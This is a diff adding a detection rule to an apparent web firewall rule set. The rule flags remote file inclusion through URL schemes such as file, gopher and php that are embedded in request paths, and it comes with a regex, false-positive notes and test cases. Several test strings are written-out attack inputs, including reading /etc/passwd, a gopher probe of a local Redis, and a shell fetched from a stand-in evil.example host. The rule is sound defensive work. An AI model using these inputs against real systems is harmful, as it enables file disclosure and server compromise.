@@ -526,3 +526,29 @@ pass: /npm/react@18.2.0/package.json
 pass: /docs/dockerfile-best-practices
 pass: /rc-virtual-list@3.5.2/lib/hooks/useHeights.js
 pass: /api/v2/composer/list
+
+id: 300008601
+name: Remote file inclusion: a URL embedded in the URL path
+# A path holds the site's own names. A segment that starts a URL of a scheme no page links
+# with (`/file:///etc/passwd`, `/gopher://127.0.0.1:6379/_…`, `/x/php://filter/…`) is there
+# for a route that hands the rest of the path to an include, a fetch or a proxy. `http` and
+# `https` are left out: ad exchanges' cookie-sync routes carry the partner's URL as a path
+# segment (`/check_uuid/https%3A%2F%2Fprebid-server…`). The path is seen with its slashes
+# merged, so one slash after the colon is enough; a segment such as OneDrive's `root:` names
+# no scheme.
+type: Remote File Include
+accuracy: medium
+risk: high
+targets: url
+unless: binary
+literal: :/
+regex: (?:^|/)(?:ftps?|sftp|tftp|file|gopher|dict|php|phar|jar|zip|glob|expect|ldaps?|smb|netdoc|jdbc|rmi|ssh2(?:\.[a-z]+)?|ogg|rar|compress\.(?:zlib|bzip2)|view-source):/
+test: /index.php/ftp:/evil.example/shell.txt
+test: /file:/etc/passwd
+test: /gopher:/127.0.0.1:6379/_INFO
+test: /x/php:/filter/resource=index
+test: /proxy/Gopher:/evil.example/
+pass: /v1.0/me/drive/root:/【技术支持工程师_深圳】
+pass: /npm/https-proxy-agent@7.0.2/dist/index.js
+pass: /check_uuid/https:/prebid-server.rubiconproject.com/setuid?bidder=grid
+pass: /amd_modules/@baidu/search-sug/index.js
